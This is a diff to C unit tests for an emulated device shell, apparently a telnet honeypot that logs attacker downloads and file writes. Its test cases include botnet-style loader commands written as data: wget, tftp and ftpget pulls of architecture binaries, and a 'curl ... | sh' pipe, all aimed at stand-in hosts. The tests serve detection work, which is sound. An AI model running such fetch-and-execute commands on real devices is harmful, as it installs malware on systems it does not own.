@@ -43,11 +43,33 @@ static char *run(struct shell *shell, const char *line)
 		free(text_); \
 	} while (0)
 
+static struct labconf_file files[] = {
+	{ (char *)"/etc/banner", (uint8_t *)"camera\n", 7 },
+	{ (char *)"/proc/mounts", (uint8_t *)"root / rw\n", 10 },
+};
+static struct labconf_telnet conf = { .hostname = (char *)"device" };
+
+/* what was fetched, and what became of files */
+static char told[4096];
+
+static void on_fetch(void *data, const struct fetch *fetch)
+{
+	sprintf(told + strlen(told), "%s %s > %s;", fetch->tool, fetch->url, fetch->file);
+}
+
+static void on_file(void *data, const char *path, const uint8_t *content, size_t len)
+{
+	if (strlen(told) + len + strlen(path) + 16 < sizeof(told))
+		sprintf(told + strlen(told), "%s=%.*s;", path, (int)len, (const char *)content);
+}
+
+static const struct observer observer = { .fetch = on_fetch, .file = on_file };
+
 static int setup(void **state)
 {
 	struct shell *shell = malloc(sizeof(*shell));
 
-	shell_init(shell, "device");
+	shell_init(shell, &conf, &observer);
 	*state = shell;
 	return shell ? 0 : -1;
 }
@@ -194,7 +216,7 @@ static void test_words(void **state)
 		{ "cd /tmp; cd ..; pwd; cd /a/./b/../c/; pwd", "/\n/a/c\n" },
 		{ "echo x > h; cp h h; cat h; mv h i; cat i; rm h", "x\nx\n"
 		  "rm: can't remove 'h': No such file or directory\n" },
-		{ "uname -m", DEVICE_MACHINE "\n" },
+		{ "uname -m", "mips\n" },
 		{ "hostname; whoami", "device\nroot\n" },
 		{ "\\", "sh: \\: not found\n" },
 	};
@@ -202,9 +224,95 @@ static void test_words(void **state)
 
 	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
 		shell_free(*state);
-		shell_init(*state, "device");
+		shell_init(*state, &conf, &observer);
 		expect(*state, cases[i].line, cases[i].out);
 	}
+}
+
+static void test_fetches_are_told(void **state)
+{
+	static const struct {
+		const char *line, *told;
+	} cases[] = {
+		{ "wget http://192.0.2.1/bins/x.mips", "wget http://192.0.2.1/bins/x.mips > x.mips;" },
+		{ "wget http://192.0.2.1/x -O - > y", "wget http://192.0.2.1/x > -;" },
+		{ "/bin/busybox wget http://192.0.2.1:81/", "wget http://192.0.2.1:81/ > index.html;" },
+		{ "tftp -g -l a -r b.mips 192.0.2.1", "tftp tftp://192.0.2.1/b.mips > a;" },
+		{ "tftp -r b -g 192.0.2.1", "tftp tftp://192.0.2.1/b > b;" },
+		{ "curl -O http://a.test/x.sh", "curl http://a.test/x.sh > x.sh;" },
+		{ "curl http://a.test/x.sh -o t -s", "curl http://a.test/x.sh > t;" },
+		{ "curl http://a.test/x.sh | sh", "curl http://a.test/x.sh > -;" },
+		{ "ftpget -u a -p b 192.0.2.1 l r", "ftpget ftp://192.0.2.1/r > l;" },
+		{ "wget; tftp; curl; ftpget", "" },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		told[0] = '\0';
+		free(run(*state, cases[i].line));
+		assert_string_equal(told, cases[i].told);
+	}
+}
+
+static void test_files_are_told(void **state)
+{
+	struct shell *shell = *state;
+
+	told[0] = '\0';
+	free(run(shell, "echo -n one > /tmp/a; echo -n two >> /tmp/a"));
+	assert_string_equal(told, "");
+	free(run(shell, "echo -n three > /tmp/a"));
+	assert_string_equal(told, "/tmp/a=onetwo;");
+	free(run(shell, "rm /tmp/a; > /tmp/empty; echo -n four > b"));
+	assert_string_equal(told, "/tmp/a=onetwo;/tmp/a=three;");
+	shell_free(shell);
+	assert_string_equal(told, "/tmp/a=onetwo;/tmp/a=three;/b=four;");
+}
+
+static void test_the_file_of_lab_conf(void **state)
+{
+	struct shell *shell = *state;
+
+	conf.files = files;
+	conf.file_count = 2;
+	expect(shell, "cat /etc/banner", "camera\n");
+	expect(shell, "cat /proc/mounts", "root / rw\n");
+	expect(shell, "echo x > /etc/banner; cat /etc/banner", "x\n");
+	conf.file_count = 0;
+	expect_part(shell, "cat /proc/mounts", "squashfs");
+}
+
+/* What a loader reads: class, byte order, machine. */
+static void test_machines(void **state)
+{
+	static const struct {
+		const char *name, *uname;
+		uint8_t class, data, high, low;
+	} cases[] = {
+		{ "mips", "mips\n", 1, 2, 0, 8 }, { "mipsel", "mips\n", 1, 1, 8, 0 },
+		{ "arm", "armv5tejl\n", 1, 1, 40, 0 }, { "arm7", "armv7l\n", 1, 1, 40, 0 },
+		{ "x86", "i686\n", 1, 1, 3, 0 }, { "x86_64", "x86_64\n", 2, 1, 62, 0 },
+		{ "powerpc", "ppc\n", 1, 2, 0, 20 }, { "sh4", "sh4\n", 1, 1, 42, 0 },
+		{ "m68k", "m68k\n", 1, 2, 0, 4 }, { "sparc", "sparc\n", 1, 2, 0, 2 },
+		{ "aarch64", "aarch64\n", 2, 1, 183, 0 },
+	};
+	struct shell *shell = *state;
+	const uint8_t *program;
+	size_t i, len;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		conf.machine = (char *)cases[i].name;
+		expect(shell, "uname -m", cases[i].uname);
+		program = files_read(&shell->files, "/bin/echo", &len);
+		assert_non_null(program);
+		assert_memory_equal(program, "\177ELF", 4);
+		assert_int_equal(program[4], cases[i].class);
+		assert_int_equal(program[5], cases[i].data);
+		assert_int_equal(program[18], cases[i].high);
+		assert_int_equal(program[19], cases[i].low);
+		assert_int_equal(len, cases[i].class == 2 ? 64 + 56 : 52 + 32);
+	}
+	conf.machine = NULL;
 }
 
 static void test_exit(void **state)
@@ -281,7 +389,7 @@ static void test_long_paths(void **state)
 		bool fits = len < FILES_PATH_MAX - 1;
 
 		shell_free(shell);
-		shell_init(shell, "device");
+		shell_init(shell, &conf, &observer);
 		snprintf(line, sizeof(line), "cd /%0*d", (int)len - 1, 0);
 		free(run(shell, line));
 		assert_int_equal(shell->status != 0, !fits);
@@ -305,6 +413,10 @@ int main(void)
 		test(test_program_header),
 		test(test_echo),
 		test(test_words),
+		test(test_fetches_are_told),
+		test(test_files_are_told),
+		test(test_the_file_of_lab_conf),
+		test(test_machines),
 		test(test_exit),
 		test(test_bounds),
 		test(test_long_paths),
